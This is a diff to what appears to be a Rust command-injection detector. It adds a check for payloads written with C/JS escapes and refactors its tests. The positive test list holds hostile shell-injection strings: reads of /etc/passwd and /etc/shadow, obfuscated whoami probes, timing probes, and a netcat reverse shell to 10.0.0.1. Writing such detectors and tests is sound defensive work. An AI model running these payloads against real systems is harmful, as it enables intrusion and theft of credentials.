@@ -17,6 +17,7 @@
 //! end of the value. One pass, bounded: at most `MAX_WORDS` words are read
 //! and a word keeps at most `MAX_WORD` bytes.
 
+use crate::transform::Transform;
 use std::ops::Range;
 
 const MAX_WORDS: usize = 256;
@@ -52,6 +53,18 @@ pub(crate) fn detect(v: &[u8]) -> Option<Range<usize>> {
             read_from(v, at + 1, blob)
         })
     })
+}
+
+/// Command injection written with C / JS escapes, for a layer that
+/// decodes them before a shell sees the text (a JSON string built by
+/// hand, `echo -e`, `printf`, a template): `\nid\n`, `x\u000auname -a`.
+/// A value without a backslash is not decoded (nor read again). The span
+/// runs from the first escape, in the value as received.
+pub(crate) fn detect_escaped(v: &[u8]) -> Option<Range<usize>> {
+    let first = v.iter().position(|&b| b == b'\\')?;
+    let decoded = Transform::JsDecode.apply(v)?;
+    detect(&decoded)?;
+    Some(first..v.len().min(first + 64))
 }
 
 /// Bytes that can start a command position (`;`, `|`, `&`, a line
@@ -662,77 +675,82 @@ fn glob_match(p: &[u8], s: &[u8]) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::detect::test_support::assert_each;
 
     #[test]
     fn injections() {
-        for v in [
-            ";cat /etc/passwd",
-            "| id",
-            "&& whoami",
-            "x\nid\n",
-            "$(whoami)",
-            "`id`",
-            "a;c$u''at /etc/passwd",
-            ";{cat,/etc/passwd}",
-            ";cat${IFS}/etc/passwd",
-            ";cat$IFS$9/etc/passwd",
-            "|/???/c?t /???/p??s??",
-            ";w'h'o'a'm'i",
-            ";echo NFZNLR$((63+38))$(echo NFZNLR)NFZNLR",
-            "& ping -n 10 127.0.0.1 &",
-            "|| sleep 5 ||",
-            "x;ca\\t /e\\tc/pa\\sswd",
-            "1|powershell -enc ABC",
-            "1;/bin/cat /etc/shadow",
-            "127.0.0.1&&ipconfig",
-            "foo|w^h^o^a^m^i",
-            "q=$((7*7))",
-            ";ls",
-            "x && ca${u}t /etc/hosts",
-            "name\";uname -a;\"",
-            "a'$(nc -e /bin/sh 10.0.0.1 4444)'",
-        ] {
-            assert!(detect(v.as_bytes()).is_some(), "{v}");
-        }
+        assert_each(
+            |v| detect(v).is_some(),
+            true,
+            &[
+                ";cat /etc/passwd",
+                "| id",
+                "&& whoami",
+                "x\nid\n",
+                "$(whoami)",
+                "`id`",
+                "a;c$u''at /etc/passwd",
+                ";{cat,/etc/passwd}",
+                ";cat${IFS}/etc/passwd",
+                ";cat$IFS$9/etc/passwd",
+                "|/???/c?t /???/p??s??",
+                ";w'h'o'a'm'i",
+                ";echo NFZNLR$((63+38))$(echo NFZNLR)NFZNLR",
+                "& ping -n 10 127.0.0.1 &",
+                "|| sleep 5 ||",
+                "x;ca\\t /e\\tc/pa\\sswd",
+                "1|powershell -enc ABC",
+                "1;/bin/cat /etc/shadow",
+                "127.0.0.1&&ipconfig",
+                "foo|w^h^o^a^m^i",
+                "q=$((7*7))",
+                ";ls",
+                "x && ca${u}t /etc/hosts",
+                "name\";uname -a;\"",
+                "a'$(nc -e /bin/sh 10.0.0.1 4444)'",
+            ],
+        );
     }
 
     #[test]
     fn prose_and_data() {
-        for v in [
-            "Tom & Jerry; cat videos",
-            "rock | pop | jazz",
-            "Home > Men > Hoodies",
-            "price: 10|20|30",
-            "a;b;c",
-            "id=5;name=x",
-            "cats & dogs; sleep tips for puppies",
-            "Hello ${name}",
-            "name | id | email",
-            "php & mysql hosting; python tutorials",
-            "Bring: passport; ID card",
-            "$5 (approx)",
-            "size=M;color=red",
-            "drag & drop",
-            "foo && bar",
-            "Sort by price | sort order",
-            "To Do | Doing | Done",
-            "R&D; find the best team",
-            "7||1733913600||1733910000||8e4b2c6a1d9f",
-            "Games > Board | Family",
-            "checkout_v2|variant_b|1733823600",
-            "a|nc|rm|x",
-            ".BJ{9mk2*U|g0~9R Ir2rph0OK bo;+l=eX8|[Q,y=%Wr~j30z`cK_RaVc8~;rm`,B PJ>Uf"
-                .repeat(4)
-                .as_str(),
-            "Xk2;rm;`*h`;Zq0".repeat(20).as_str(),
-            "See you at 5; time flies",
-            "the cost is $((estimate)) per unit",
-            "Ben & Jerry's | Free delivery",
-            "ad_storage:granted;analytics_storage:granted",
-            "query {\n  user {\n    id\n    date\n    type\n    ls\n  }\n}",
-        ] {
-            assert!(detect(v.as_bytes()).is_none(), "{v}");
-        }
+        assert_each(
+            |v| detect(v).is_some(),
+            false,
+            &[
+                "Tom & Jerry; cat videos",
+                "rock | pop | jazz",
+                "Home > Men > Hoodies",
+                "price: 10|20|30",
+                "a;b;c",
+                "id=5;name=x",
+                "cats & dogs; sleep tips for puppies",
+                "Hello ${name}",
+                "name | id | email",
+                "php & mysql hosting; python tutorials",
+                "Bring: passport; ID card",
+                "$5 (approx)",
+                "size=M;color=red",
+                "drag & drop",
+                "foo && bar",
+                "Sort by price | sort order",
+                "To Do | Doing | Done",
+                "R&D; find the best team",
+                "7||1733913600||1733910000||8e4b2c6a1d9f",
+                "Games > Board | Family",
+                "checkout_v2|variant_b|1733823600",
+                "a|nc|rm|x",
+                ".BJ{9mk2*U|g0~9R Ir2rph0OK bo;+l=eX8|[Q,y=%Wr~j30z`cK_RaVc8~;rm`,B PJ>Uf"
+                    .repeat(4)
+                    .as_str(),
+                "Xk2;rm;`*h`;Zq0".repeat(20).as_str(),
+                "See you at 5; time flies",
+                "the cost is $((estimate)) per unit",
+                "Ben & Jerry's | Free delivery",
+                "ad_storage:granted;analytics_storage:granted",
+                "query {\n  user {\n    id\n    date\n    type\n    ls\n  }\n}",
+            ],
+        );
     }
 
     #[test]
